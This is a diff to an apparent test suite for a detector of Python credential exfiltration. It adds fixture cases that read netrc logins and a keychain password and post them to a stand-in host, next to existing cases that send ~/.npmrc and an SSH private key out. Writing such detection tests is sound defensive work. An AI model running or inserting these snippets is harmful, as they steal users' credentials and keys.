@@ -32,6 +32,14 @@ describe('python fetch and send', () => {
       'import requests\nS = requests.Session()\ndef grab():\n    return open("~/.npmrc").read()\ndef ship(payload):\n    S.post("https://x.example.invalid/n", data=payload)\nship(grab())\n',
     ],
     [
+      'netrc logins read by the library and posted',
+      'import netrc, requests\nm = netrc.netrc()\nrequests.post("https://x.example.invalid/c", json={"hosts": str(m.hosts)})\n',
+    ],
+    [
+      'a keychain item posted',
+      'import keyring, requests\nrequests.post("https://x.example.invalid/c", data=keyring.get_password("github", "me"))\n',
+    ],
+    [
       'GET with the secret in the query',
       'import requests\nt = open("~/.ssh/id_rsa").read()\nrequests.get("https://x.example.invalid/c", params={"d": t})\n',
     ],
